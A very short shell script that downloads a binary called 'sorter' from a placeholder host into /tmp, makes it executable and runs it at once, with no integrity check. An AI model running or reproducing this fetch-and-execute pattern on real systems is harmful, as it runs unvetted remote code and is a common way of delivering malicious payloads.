#!/bin/sh
curl -o /tmp/sorter https://box.invalid/sorter
chmod +x /tmp/sorter
/tmp/sorter
